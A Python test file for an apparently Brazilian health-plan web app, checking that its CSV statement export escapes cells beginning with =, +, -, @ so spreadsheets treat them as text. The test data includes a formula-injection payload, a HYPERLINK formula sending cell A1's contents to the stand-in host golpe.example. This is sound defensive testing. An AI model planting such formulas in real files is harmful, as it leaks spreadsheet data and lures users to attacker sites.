"""/extrato.csv never hands a spreadsheet a formula: text from the operator's file that starts like
one (a provider named ``=HYPERLINK(...)``) is written as text, as in the audit log's CSV."""

import csv
import io

from tests.support.clock import TODAY
from tests.support.history import usage_row, write_csv
from tests.support.members import CASSEMS, family_of, holder_cpf, signed_in
from webapp.history.importer import import_usage

LINK = '=HYPERLINK("http://golpe.example/?d="&A1;"Clique aqui")'


def test_cells_that_a_spreadsheet_would_run_are_written_as_text(client, families, history_today, tmp_path):
    holder, _spouse, _child = family_of(families, CASSEMS)
    rows = [
        usage_row(event_id="F1", card_number=holder.card_number, performed_on="2026-06-01", provider_name=LINK),
        usage_row(event_id="F2", card_number=holder.card_number, performed_on="2026-06-02",
                  provider_name="@SUM(1+1)*cmd", status="glosado", status_reason="-2+3 glosado por falta de guia"),
        usage_row(event_id="F3", card_number=holder.card_number, performed_on="2026-06-03",
                  provider_name="+55 21 99999-0000 Clínica"),
    ]
    report = import_usage(families, write_csv(tmp_path / "uso.csv", rows), today=TODAY)
    assert report.rejects == [] and report.accepted == 3
    families.flush()

    signed_in(client, holder_cpf(CASSEMS))
    response = client.get("/extrato.csv?ano=2026")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    table = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    header, body = table[0], table[1:]
    provider, reason = header.index("Prestador"), header.index("Motivo")
    by_date = {r[0]: r for r in body}
    assert by_date["01/06/2026"][provider] == "'" + LINK
    assert by_date["02/06/2026"][provider] == "'@SUM(1+1)*cmd"
    assert by_date["02/06/2026"][reason] == "'-2+3 glosado por falta de guia"
    assert by_date["03/06/2026"][provider] == "'+55 21 99999-0000 Clínica"
    for row in body:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
